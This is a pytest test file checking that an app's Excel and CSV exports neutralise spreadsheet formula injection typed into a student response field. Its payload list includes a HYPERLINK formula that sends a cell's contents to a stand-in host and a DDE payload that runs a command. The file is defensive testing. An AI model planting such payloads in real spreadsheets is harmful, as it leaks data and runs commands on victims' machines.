"""Formula injection (issue 10.8): typed text never becomes a live formula in an export."""

import csv

import openpyxl
import pytest

from seguimiento_desktop.exports.writers import neutralise
from tests.report_plantel import build_small_plantel

PAYLOADS = ['=HYPERLINK("http://malo.example/?x="&A1,"Ver perfil")', "=1+1", "+52 33 1234",
            "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", '=cmd|" /C calc"!A0']


@pytest.fixture
def typed(workspace):
    """A plantel whose first C1 response has a payload typed as the social-network handle."""
    students = build_small_plantel(workspace)
    def plant(payload: str) -> None:
        with workspace.store.transaction() as db:
            db.execute("UPDATE responses SET answers = json_set(answers, '$.RED_SOCIAL', ?) "
                       "WHERE student_id = ? AND questionnaire = 'C1'", [payload, students[0].id])
    return workspace, plant


@pytest.mark.parametrize("payload", PAYLOADS)
def test_excel_keeps_the_payload_as_text(typed, tmp_path, payload):
    workspace, plant = typed
    plant(payload)
    out = tmp_path / "r.xlsx"
    workspace.export_responses("excel", out, questionnaire="C1")
    sheet = openpyxl.load_workbook(out)["C1"]
    cells = [c for row in sheet.iter_rows() for c in row
             if isinstance(c.value, str) and c.value.strip() == payload.strip()]
    assert cells, "the payload is in the book, readable as typed"
    assert all(c.data_type == "s" for c in cells)
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_starts_the_payload_with_an_apostrophe(typed, tmp_path, payload):
    workspace, plant = typed
    plant(payload)
    out = workspace.export_responses("csv", tmp_path / "r.csv", questionnaire="C1").files[0]
    with open(out, encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert "'" + payload in cells
    assert payload not in cells


def test_plain_values_are_left_alone():
    assert neutralise("Juan") == "Juan" and neutralise(5) == 5 and neutralise(None) is None
    assert neutralise("-") == "'-" and neutralise("a=b") == "a=b"
